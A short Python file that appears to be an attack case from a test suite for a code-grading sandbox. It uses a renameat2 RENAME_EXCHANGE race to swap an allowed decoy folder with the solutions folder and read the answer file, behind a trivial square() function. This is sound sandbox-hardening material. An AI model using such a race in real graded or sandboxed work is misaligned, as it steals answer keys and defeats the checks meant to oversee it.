"""Exchanges an allowed folder and the solutions while a path through them is being opened.

stopped by: system calls
points: all
"""

# The prize is not the solution alone: whoever wins has moved the grader's folder.
import contextlib
import ctypes
import os
import time

AT_FDCWD, RENAME_EXCHANGE = -100, 2
libc = ctypes.CDLL(None)
decoy = b"@OPEN@/attack-decoy"
with contextlib.suppress(OSError):
    os.mkdir(decoy)

end = time.monotonic() + 0.3
while time.monotonic() < end:
    libc.renameat2(AT_FDCWD, decoy, AT_FDCWD, b"@SOLUTIONS@", RENAME_EXCHANGE)
    with contextlib.suppress(OSError), open(decoy + b"/plain/square.py") as file:
        print("REACHED", file.read())
        break


def square(x):
    return x * x
